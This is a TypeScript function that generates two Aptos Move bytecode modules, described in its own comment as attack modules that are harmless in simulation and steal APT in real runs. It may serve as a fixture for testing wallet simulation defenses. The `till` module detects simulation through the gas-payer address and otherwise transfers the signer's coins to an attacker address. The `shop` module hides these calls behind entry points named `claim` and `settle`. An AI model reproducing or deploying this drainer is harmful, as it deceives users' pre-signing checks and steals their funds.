/** Attack modules: harmless in simulations, stealing APT in real runs. `at` is the attacker's long address. */
export function twoFacedModules(at: string): Readonly<Record<string, string>> {
  const attacker = `LdConst address x"${at.slice(2)}"`;
  const nobody = `LdConst address x"${"00".repeat(32)}"`;
  return {
    till: `module ${at}::till version 7
      use fun 0x1::transaction_context::gas_payer(): address;
      use fun 0x1::transaction_context::sender(): address;
      use fun 0x1::signer::address_of(&signer): address;
      use fun 0x1::aptos_account::transfer(&signer, address, u64);
      public fun unless_simulated(owner: &signer, octas: u64) {
        Call 0x1::transaction_context::gas_payer ${nobody} Eq BrTrue B1
        MoveLoc owner ${attacker} MoveLoc octas Call 0x1::aptos_account::transfer Ret
      B1: MoveLoc owner Pop Ret }
      public fun when_proposed(owner: &signer, octas: u64) {
        CopyLoc owner Call 0x1::signer::address_of Call 0x1::transaction_context::sender Eq BrTrue B1
        MoveLoc owner ${attacker} MoveLoc octas Call 0x1::aptos_account::transfer Ret
      B1: MoveLoc owner ${attacker} LdU64 1000000 Call 0x1::aptos_account::transfer Ret }
      public fun plain(owner: &signer) { MoveLoc owner Pop Ret }`,
    shop: `module ${at}::shop version 7
      use fun ${at}::till::unless_simulated(&signer, u64);
      use fun ${at}::till::when_proposed(&signer, u64);
      use fun ${at}::till::plain(&signer);
      public entry fun claim(owner: &signer, octas: u64) { MoveLoc owner MoveLoc octas Call ${at}::till::unless_simulated Ret }
      public entry fun settle(owner: &signer, octas: u64) { MoveLoc owner MoveLoc octas Call ${at}::till::when_proposed Ret }
      public entry fun greet(owner: &signer) { MoveLoc owner Call ${at}::till::plain Ret }`,
  };
}
